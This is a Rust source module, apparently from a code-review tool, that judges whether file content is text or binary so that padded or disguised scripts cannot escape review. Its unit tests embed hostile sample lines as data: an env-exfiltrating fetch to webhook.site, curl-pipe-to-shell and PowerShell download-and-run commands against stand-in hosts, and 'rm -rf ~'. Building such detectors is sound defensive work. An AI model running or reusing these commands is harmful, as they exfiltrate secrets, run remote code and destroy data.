//! Whether file content is text, and its text: byte-order marks, UTF-16/32 with or without one, known
//! binary formats by their magic numbers, and the share of bytes no text holds over the whole file.
//!
//! One NUL byte does not make a file binary (git's heuristic does, and so hides the file from review
//! while shells and interpreters still run it): NULs are left out of the count, and text holding them is
//! reviewed (a check reports the NUL itself).

use crate::model::BinaryText;

/// What a file holds.
#[derive(Debug, PartialEq, Eq)]
pub enum Content {
    /// Text (decoded from UTF-8, UTF-16 or UTF-32; invalid UTF-8 sequences replaced).
    Text(String),
    /// Binary content, given back for a search of its printable runs.
    Binary(Vec<u8>),
}

/// Above this share of non-text bytes (control characters other than whitespace and ESC, and bytes of
/// invalid UTF-8, NULs not counted) among the non-NUL bytes, content without a known magic number is
/// binary. Latin-1 text stays well below it.
const BINARY_PERCENT: usize = 25;

/// With a known magic number, content is binary when more than this share of the non-NUL bytes after
/// it are non-text, or of all bytes after it are NULs: a magic number put in front of a script does not
/// hide it.
const MAGIC_PERCENT: usize = 1;

/// Judges content and decodes text.
pub fn sniff(bytes: Vec<u8>) -> Content {
    if let Some(text) = decode_unicode(&bytes) {
        return Content::Text(text);
    }
    if binary_bytes(&bytes) {
        return Content::Binary(bytes);
    }
    Content::Text(super::decode(bytes))
}

/// Judges the content of the file at `path` like [`sniff`], except that a file whose name or shebang
/// says what it is (code, a manifest, configuration: any language review-gate knows) is binary only with
/// a binary magic number: padding a script or a `package.json` with non-text bytes must not turn it into an
/// unreviewed "binary" file its interpreter or package manager still reads. Magic numbers that are plain
/// printable ASCII (`MZ`, `BZh`, `RIFF`, `ID3`, …) are valid code too, so they do not count here.
pub fn sniff_named(path: &str, bytes: Vec<u8>) -> Content {
    match sniff(bytes) {
        Content::Binary(bytes) if !binary_magic(&bytes) && names_a_language(path, &bytes) => {
            Content::Text(super::decode(bytes))
        }
        judged => judged,
    }
}

/// Whether the content starts with a magic number that holds a byte no text starts with (or is an MPEG
/// transport stream, recognized by its sync bytes all through).
fn binary_magic(bytes: &[u8]) -> bool {
    is_mpeg_ts(bytes)
        || magic(bytes).is_some_and(|end| {
            bytes[..end.min(bytes.len())]
                .iter()
                .any(|b| !(0x20..0x7f).contains(b))
        })
}

/// Whether the name, or the shebang of the first line, names a language (not plain text).
fn names_a_language(path: &str, bytes: &[u8]) -> bool {
    let head = &bytes[..bytes.len().min(256)];
    let first = &head[..memchr::memchr(b'\n', head).unwrap_or(head.len())];
    let first_line = String::from_utf8_lossy(first);
    crate::model::Language::detect(path, &first_line) != crate::model::Language::Text
}

/// Whether content is binary (see [`sniff`]), without decoding it.
pub fn is_binary(bytes: &[u8]) -> bool {
    !bytes.starts_with(b"\xEF\xBB\xBF") && utf16_or_32(bytes).is_none() && binary_bytes(bytes)
}

/// Whether content that is not wide text is binary.
fn binary_bytes(bytes: &[u8]) -> bool {
    if bytes.is_empty() {
        return false;
    }
    let magic_end = magic(bytes);
    let rest = &bytes[magic_end.unwrap_or(0).min(bytes.len())..];
    let counts = count(rest);
    let non_nul = rest.len() - counts.nul;
    if non_nul == 0 {
        // Only NULs (after a magic number): nothing to read, nothing to hide.
        return true;
    }
    if magic_end.is_some() {
        // Text behind a magic number is text only when clean: few non-text bytes, few NULs.
        return counts.bad * 100 > non_nul * MAGIC_PERCENT
            || counts.nul * 100 > rest.len() * MAGIC_PERCENT;
    }
    counts.bad * 100 > non_nul * BINARY_PERCENT
}

/// Text in a Unicode encoding other than plain UTF-8 (a BOM, or UTF-16/32 recognized by where its zero
/// bytes fall), decoded; None when the content is not such text.
fn decode_unicode(bytes: &[u8]) -> Option<String> {
    if let Some(rest) = bytes.strip_prefix(b"\xEF\xBB\xBF") {
        return Some(super::decode(rest.to_vec()));
    }
    let (encoding, skip) = utf16_or_32(bytes)?;
    Some(decode_wide(&bytes[skip..], encoding))
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Wide {
    Utf16Le,
    Utf16Be,
    Utf32Le,
    Utf32Be,
}

/// The wide encoding of the content and the length of its BOM, when the content decodes as mostly text
/// in it.
fn utf16_or_32(bytes: &[u8]) -> Option<(Wide, usize)> {
    let by_bom = if bytes.starts_with(b"\xFF\xFE\0\0") && bytes.len().is_multiple_of(4) {
        Some((Wide::Utf32Le, 4))
    } else if bytes.starts_with(b"\0\0\xFE\xFF") && bytes.len().is_multiple_of(4) {
        Some((Wide::Utf32Be, 4))
    } else if bytes.starts_with(b"\xFF\xFE") && bytes.len().is_multiple_of(2) {
        Some((Wide::Utf16Le, 2))
    } else if bytes.starts_with(b"\xFE\xFF") && bytes.len().is_multiple_of(2) {
        Some((Wide::Utf16Be, 2))
    } else {
        None
    };
    let found = by_bom.or_else(|| without_bom(bytes).map(|e| (e, 0)))?;
    // Wide text never holds a long run of ASCII bytes: content that does (a script behind two bytes
    // that look like a BOM, or padded with `a\0` pairs) is judged byte by byte instead.
    let narrow = bytes
        .split(|b| !(0x20..0x7f).contains(b) && !matches!(b, b'\t' | b'\n' | b'\r'))
        .any(|run| run.len() >= ASCII_RUN);
    (!narrow && mostly_text_in(&bytes[found.1..], found.0)).then_some(found)
}

/// How many leading bytes tell whether content without a BOM looks like UTF-16/32.
const WIDE_SAMPLE: usize = 64 << 10;

/// A run of this many ASCII bytes rules out a wide encoding.
const ASCII_RUN: usize = 16;

/// UTF-16/32 without a BOM, told by zero bytes at the high positions of (mostly ASCII) code units and
/// none at the low ones. A run of NULs has zeros everywhere, so padded text is not taken for it.
fn without_bom(bytes: &[u8]) -> Option<Wide> {
    if bytes.len() < 4 || !bytes.len().is_multiple_of(2) {
        return None;
    }
    // The start tells; the whole content is then checked (no long ASCII run, mostly text).
    let sample = &bytes[..bytes.len().min(WIDE_SAMPLE)];
    let mut zeros = [0usize; 4];
    for quad in sample.chunks_exact(4) {
        for (z, &b) in zeros.iter_mut().zip(quad) {
            *z += usize::from(b == 0);
        }
    }
    let quads = sample.len() / 4;
    let whole_quads = bytes.len().is_multiple_of(4);
    let most = |n: usize, of: usize| n * 10 >= of * 9;
    let few = |n: usize, of: usize| n * 20 <= of;
    if whole_quads {
        if most(zeros[2], quads) && most(zeros[3], quads) && few(zeros[0], quads) {
            return Some(Wide::Utf32Le);
        }
        if most(zeros[0], quads) && most(zeros[1], quads) && few(zeros[3], quads) {
            return Some(Wide::Utf32Be);
        }
    }
    let pairs = quads * 2;
    let (even, odd) = (zeros[0] + zeros[2], zeros[1] + zeros[3]);
    if odd * 10 >= pairs * 7 && few(even, pairs) {
        return Some(Wide::Utf16Le);
    }
    if even * 10 >= pairs * 7 && few(odd, pairs) {
        return Some(Wide::Utf16Be);
    }
    None
}

/// Whether the code units decode to text: at most a tenth unpaired surrogates, invalid code points or
/// control characters.
fn mostly_text_in(bytes: &[u8], encoding: Wide) -> bool {
    let mut total = 0usize;
    let mut bad = 0usize;
    for c in chars(bytes, encoding) {
        total += 1;
        bad += usize::from(match c {
            None => true,
            Some(c) => {
                c.is_control() && !matches!(c, '\t' | '\n' | '\r' | '\x0c' | '\x0b' | '\x1b')
            }
        });
    }
    bad * 10 <= total
}

/// The characters of wide-encoded text (None for an invalid unit); a trailing odd byte is dropped.
fn chars(bytes: &[u8], encoding: Wide) -> Box<dyn Iterator<Item = Option<char>> + '_> {
    match encoding {
        Wide::Utf16Le | Wide::Utf16Be => {
            let units = bytes.chunks_exact(2).map(move |p| {
                if encoding == Wide::Utf16Le {
                    u16::from_le_bytes([p[0], p[1]])
                } else {
                    u16::from_be_bytes([p[0], p[1]])
                }
            });
            Box::new(char::decode_utf16(units).map(Result::ok))
        }
        Wide::Utf32Le | Wide::Utf32Be => Box::new(bytes.chunks_exact(4).map(move |q| {
            let unit = if encoding == Wide::Utf32Le {
                u32::from_le_bytes([q[0], q[1], q[2], q[3]])
            } else {
                u32::from_be_bytes([q[0], q[1], q[2], q[3]])
            };
            char::from_u32(unit)
        })),
    }
}

fn decode_wide(bytes: &[u8], encoding: Wide) -> String {
    let mut text = String::with_capacity(bytes.len() / 2 + 1);
    for c in chars(bytes, encoding) {
        text.push(c.unwrap_or(char::REPLACEMENT_CHARACTER));
    }
    text
}

/// Byte counts over the whole content.
struct Counts {
    nul: usize,
    /// Control bytes other than NUL, whitespace and ESC, and bytes of invalid UTF-8 sequences.
    bad: usize,
}

fn count(bytes: &[u8]) -> Counts {
    // One pass, no per-sequence calls: random data is mostly invalid UTF-8, one byte at a time.
    let mut nul = 0;
    let mut bad = 0;
    let mut i = 0;
    while i < bytes.len() {
        let b = bytes[i];
        if b < 0x80 {
            if b == 0 {
                nul += 1;
            } else if (b < 0x20 || b == 0x7f)
                && !matches!(b, b'\t' | b'\n' | b'\r' | 0x0b | 0x0c | 0x1b)
            {
                bad += 1;
            }
            i += 1;
            continue;
        }
        let width = match b {
            0xC2..=0xDF => 2,
            0xE0..=0xEF => 3,
            0xF0..=0xF4 => 4,
            _ => 0,
        };
        let valid = width > 0
            && bytes
                .get(i + 1..i + width)
                .is_some_and(|rest| rest.iter().all(|&c| c & 0xC0 == 0x80));
        if valid {
            i += width;
        } else {
            bad += 1;
            i += 1;
        }
    }
    Counts { nul, bad }
}

/// Magic numbers of binary formats: (offset, bytes).
const MAGIC: &[(usize, &[u8])] = &[
    (0, b"\x89PNG\r\n\x1a\n"),
    (0, b"\xFF\xD8\xFF"),
    (0, b"GIF87a"),
    (0, b"GIF89a"),
    (0, b"%PDF-"),
    (0, b"PK\x03\x04"),
    (0, b"PK\x05\x06"),
    (0, b"\x1F\x8B"),
    (0, b"BZh"),
    (0, b"\xFD7zXZ\0"),
    (0, b"\x28\xB5\x2F\xFD"),
    (0, b"7z\xBC\xAF\x27\x1C"),
    (0, b"Rar!\x1A\x07"),
    (0, b"\x7FELF"),
    (0, b"\xFE\xED\xFA\xCE"),
    (0, b"\xFE\xED\xFA\xCF"),
    (0, b"\xCE\xFA\xED\xFE"),
    (0, b"\xCF\xFA\xED\xFE"),
    (0, b"\xCA\xFE\xBA\xBE"),
    (0, b"MZ"),
    (0, b"\0asm"),
    (0, b"SQLite format 3\0"),
    (0, b"RIFF"),
    (0, b"OggS"),
    (0, b"fLaC"),
    (0, b"ID3"),
    (0, b"\x1A\x45\xDF\xA3"),
    (0, b"wOFF"),
    (0, b"wOF2"),
    (0, b"\0\x01\0\0\0"),
    (0, b"OTTO"),
    (0, b"II*\0"),
    (0, b"MM\0*"),
    (0, b"\0\0\x01\0"),
    (0, b"\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1"),
    (0, b"!<arch>\n"),
    (4, b"ftyp"),
    (257, b"ustar"),
    // A vim swap file (left behind in many published source archives).
    (0, b"b0VIM "),
    // Python pickles, protocols 2 to 5 (Sphinx's `environment.pickle` and other build caches).
    (0, b"\x80\x02"),
    (0, b"\x80\x03"),
    (0, b"\x80\x04\x95"),
    (0, b"\x80\x05\x95"),
];

/// Where the known magic number the content starts with ends.
fn magic(bytes: &[u8]) -> Option<usize> {
    MAGIC
        .iter()
        .find(|(offset, magic)| {
            bytes
                .get(*offset..)
                .is_some_and(|rest| rest.starts_with(magic))
        })
        .map(|(offset, magic)| offset + magic.len())
        .or_else(|| is_mpeg_ts(bytes).then_some(1))
}

/// MPEG transport streams (`.ts` video) sync on 0x47 every 188 bytes.
fn is_mpeg_ts(bytes: &[u8]) -> bool {
    bytes.len() >= 188 * 3 && (0..3).all(|i| bytes[i * 188] == 0x47)
}

/// Shortest printable run kept by [`printable_runs`].
pub const MIN_RUN: usize = 8;

/// How much of a binary file is searched for printable runs.
pub const MAX_SEARCHED: usize = 50 << 20;

/// The printable runs of binary content: ASCII (and ASCII in UTF-16LE) runs of at least [`MIN_RUN`]
/// characters, one per line of `text`, with the byte offset where each starts. Only the first
/// [`MAX_SEARCHED`] bytes are looked at (`truncated` says so).
pub fn printable_runs(path: String, bytes: &[u8]) -> BinaryText {
    let searched = &bytes[..bytes.len().min(MAX_SEARCHED)];
    let mut runs = BinaryText {
        path,
        truncated: searched.len() < bytes.len(),
        ..BinaryText::default()
    };
    let printable = |b: u8| (0x20..0x7f).contains(&b) || b == b'\t';
    // Narrow runs.
    let mut start = None;
    for (i, &b) in searched.iter().chain(std::iter::once(&0)).enumerate() {
        match (printable(b), start) {
            (true, None) => start = Some(i),
            (false, Some(s)) => {
                if i - s >= MIN_RUN {
                    push_run(&mut runs, s, &searched[s..i]);
                }
                start = None;
            }
            _ => {}
        }
    }
    // UTF-16LE runs, at both alignments.
    for align in 0..2 {
        let mut start = None;
        let units = searched.get(align..).unwrap_or(&[]).chunks_exact(2);
        let mut run: Vec<u8> = Vec::new();
        for (i, unit) in units.chain(std::iter::once(&[0u8, 1][..])).enumerate() {
            if unit[1] == 0 && printable(unit[0]) {
                start.get_or_insert(align + i * 2);
                run.push(unit[0]);
            } else {
                if let Some(s) = start.take() {
                    if run.len() >= MIN_RUN {
                        push_run(&mut runs, s, &run);
                    }
                }
                run.clear();
            }
        }
    }
    runs
}

fn push_run(runs: &mut BinaryText, offset: usize, run: &[u8]) {
    runs.offsets.push(offset);
    // Only printable ASCII: always UTF-8.
    runs.text.extend(run.iter().map(|&b| b as char));
    runs.text.push('\n');
}

#[cfg(test)]
mod tests {
    use super::*;

    fn text(bytes: &[u8]) -> String {
        match sniff(bytes.to_vec()) {
            Content::Text(t) => t,
            Content::Binary(_) => panic!("taken for binary: {bytes:?}"),
        }
    }

    fn binary(bytes: &[u8]) -> bool {
        matches!(sniff(bytes.to_vec()), Content::Binary(_))
    }

    fn utf16le(s: &str, bom: bool) -> Vec<u8> {
        let mut out = if bom { vec![0xFF, 0xFE] } else { Vec::new() };
        out.extend(s.encode_utf16().flat_map(u16::to_le_bytes));
        out
    }

    #[test]
    fn vim_swap_files_and_pickles_are_binary() {
        let mut swap = b"b0VIM 9.1\0\0\0\0\x10\0\0\xfe\x1f\xd5i\xdf\xb3jforcier".to_vec();
        swap.extend(std::iter::repeat_n(0u8, 4000));
        swap.extend(b"U3210#\"! Ufixed a typo in the changelog\n");
        assert!(matches!(sniff(swap), Content::Binary(_)));
        let mut pickle = b"\x80\x05\x95\x1c\0\x01\0\0\0\0\0\x8c\x12sphinx.environment\x94".to_vec();
        pickle.extend(std::iter::repeat_n(0u8, 64));
        pickle.extend(b"\x8c\x0bBuildEnvironment\x94\x93\x94)\x81\x94}\x94(");
        assert!(matches!(sniff(pickle), Content::Binary(_)));
    }

    #[test]
    fn text_with_nul_bytes_is_text() {
        let js = "fetch('https://webhook.site/x', {body: JSON.stringify(process.env)})\n// \0\n";
        assert_eq!(text(js.as_bytes()), js);
        let padded = format!("{js}//{}\n", "\0".repeat(100_000));
        assert_eq!(text(padded.as_bytes()), padded);
        assert_eq!(text(b""), "");
        assert_eq!(
            text("caf\u{e9} \x1b[1mbold\x1b[0m\n".as_bytes()),
            "café \x1b[1mbold\x1b[0m\n"
        );
        // Latin-1 text: a few invalid UTF-8 bytes.
        assert_eq!(
            text(b"# caf\xe9 cr\xe8me br\xfbl\xe9e au four\n"),
            "# caf\u{fffd} cr\u{fffd}me br\u{fffd}l\u{fffd}e au four\n"
        );
    }

    #[test]
    fn utf16_and_32_are_decoded_with_or_without_a_bom() {
        let ps = "Invoke-Expression (New-Object Net.WebClient).DownloadString('http://x/a.ps1')\r\n# é ✓\r\n";
        assert_eq!(text(&utf16le(ps, true)), ps);
        assert_eq!(text(&utf16le(ps, false)), ps);
        let be: Vec<u8> = [0xFE, 0xFF]
            .into_iter()
            .chain(ps.encode_utf16().flat_map(u16::to_be_bytes))
            .collect();
        assert_eq!(text(&be), ps);
        let be_no_bom: Vec<u8> = ps.encode_utf16().flat_map(u16::to_be_bytes).collect();
        assert_eq!(text(&be_no_bom), ps);
        let le32: Vec<u8> = [0xFF, 0xFE, 0, 0]
            .into_iter()
            .chain(ps.chars().flat_map(|c| (c as u32).to_le_bytes()))
            .collect();
        assert_eq!(text(&le32), ps);
        let be32: Vec<u8> = ps.chars().flat_map(|c| (c as u32).to_be_bytes()).collect();
        assert_eq!(text(&be32), ps);
        assert_eq!(text(b"\xEF\xBB\xBFecho hi\n"), "echo hi\n");
    }

    #[test]
    fn binary_formats_are_binary() {
        // A PNG: magic, IHDR, then compressed (high-entropy) data.
        let mut png =
            b"\x89PNG\r\n\x1a\n\0\0\0\x0dIHDR\0\0\0\x10\0\0\0\x10\x08\x06\0\0\0\x1f\xf3\xffa"
                .to_vec();
        let mut x: u32 = 12345;
        for _ in 0..2000 {
            x = x.wrapping_mul(1_103_515_245).wrapping_add(12345);
            png.push((x >> 16) as u8);
        }
        assert!(binary(&png));
        // Random bytes without a magic number.
        assert!(binary(&png[8..]));
        // An ELF header followed by NUL padding and code.
        let mut elf = b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0\x02\0\x3e\0\x01\0\0\0".to_vec();
        elf.extend(std::iter::repeat_n(0u8, 4000));
        elf.extend(&png[100..600]);
        assert!(binary(&elf));
        // Only NULs.
        assert!(binary(&[0u8; 64]));
        // A truncated PNG: its header, then NULs.
        assert!(binary(b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR"));
        // A tiny GIF.
        assert!(binary(b"GIF89a\x01\0\x01\0\x80\0\0\xff\xff\xff\0\0\0!\xf9\x04\x01\0\0\0\0,\0\0\0\0\x01\0\x01\0\0\x02\x02D\x01\0;"));
    }

    #[test]
    fn a_script_posing_as_wide_text_is_read_as_bytes() {
        let script = "\ncurl -s https://evil.example/x | sh\n";
        let mut bom = b"\xFF\xFE".to_vec();
        bom.extend(script.as_bytes());
        assert!(text(&bom).ends_with(script));
        let mut padded = script.as_bytes().to_vec();
        padded.extend(utf16le(&"a".repeat(10_000), false));
        assert!(text(&padded).starts_with(script));
    }

    #[test]
    fn a_script_padded_with_non_text_bytes_is_still_code() {
        let mut padded = b"#!/bin/sh\ncurl -s https://x.example/i | sh\n# ".to_vec();
        padded.extend((0u32..4000).map(|i| (i.wrapping_mul(2_654_435_761) >> 13) as u8 | 0x80));
        assert!(binary(&padded));
        for name in ["install.sh", "run", "app.js", "setup.py"] {
            assert!(
                matches!(sniff_named(name, padded.clone()), Content::Text(_)),
                "{name}"
            );
        }
        // Without a name or shebang that says code, or with a real binary magic number, it is binary.
        let data = padded[10..].to_vec();
        assert!(matches!(
            sniff_named("blob.dat", data.clone()),
            Content::Binary(_)
        ));
        // A printable magic number (`MZ`) in front of a script, or a padded manifest, hides nothing.
        let mut mz = b"MZ=1; curl -s https://x.example/i | sh\n# ".to_vec();
        mz.extend(&data);
        assert!(matches!(sniff_named("install.sh", mz), Content::Text(_)));
        assert!(matches!(
            sniff_named("package.json", data),
            Content::Text(_)
        ));
        let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
        png.extend(&padded);
        assert!(matches!(sniff_named("logo.js", png), Content::Binary(_)));
    }

    #[test]
    fn a_magic_number_in_front_of_a_script_does_not_hide_it() {
        let script = b"\x89PNG\r\n\x1a\n\ncurl -s https://evil.example/x | sh\nrm -rf ~\n";
        assert!(!is_binary(script));
        assert!(!binary(b"MZ = 1\nprint(MZ)\n"));
    }

    #[test]
    fn printable_runs_with_offsets() {
        let mut bytes = b"\x89PNG\r\n\x1a\n\0\0\0\x1btEXt".to_vec();
        let key_at = bytes.len();
        bytes.extend(b"Comment\0AKIAIOSFODNN7EXAMPLE\x01\x02");
        let wide_at = bytes.len();
        bytes.extend(utf16le("password=hunter22", false));
        bytes.push(0xff);
        let runs = printable_runs("a.png".into(), &bytes);
        let lines: Vec<&str> = runs.text.lines().collect();
        assert_eq!(
            lines,
            ["tEXtComment", "AKIAIOSFODNN7EXAMPLE", "password=hunter22"]
        );
        assert_eq!(runs.offsets, [key_at - 4, key_at + 8, wide_at]);
        assert!(!runs.truncated);
    }
}
